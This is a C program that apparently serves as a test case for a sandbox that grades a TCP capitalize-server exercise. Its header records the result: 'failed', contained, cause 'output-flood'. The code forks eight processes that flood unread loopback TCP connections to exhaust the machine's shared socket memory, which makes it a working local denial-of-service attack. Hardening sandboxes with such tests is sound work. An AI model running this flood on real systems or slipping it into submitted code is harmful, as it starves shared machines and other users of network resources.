// attack: fills the memory that all TCP connections of the machine share, with its own that nobody reads
// exercise: tcp-capitalize-server
// verdict: failed
// contained: A B C D E
// cause: output-flood
// load: heavy
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static void fill(void) {
    static char block[1 << 20];
    struct sockaddr_in at = {.sin_family = AF_INET};
    socklen_t size = sizeof at;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    bind(listener, (struct sockaddr *)&at, sizeof at);
    listen(listener, 4000);
    getsockname(listener, (struct sockaddr *)&at, &size);
    for (;;) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0 || connect(s, (struct sockaddr *)&at, sizeof at) < 0 || accept(listener, NULL, NULL) < 0) pause();
        fcntl(s, F_SETFL, O_NONBLOCK);
        while (send(s, block, sizeof block, 0) > 0) {
        }
    }
}

int main(int argc, char **argv) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    bind(listener, (struct sockaddr *)&at, sizeof at);
    listen(listener, 5);
    printf("tried\n");
    fflush(stdout);
    for (int i = 0; i < 8; ++i)
        if (fork() == 0) fill();
    pause();
}
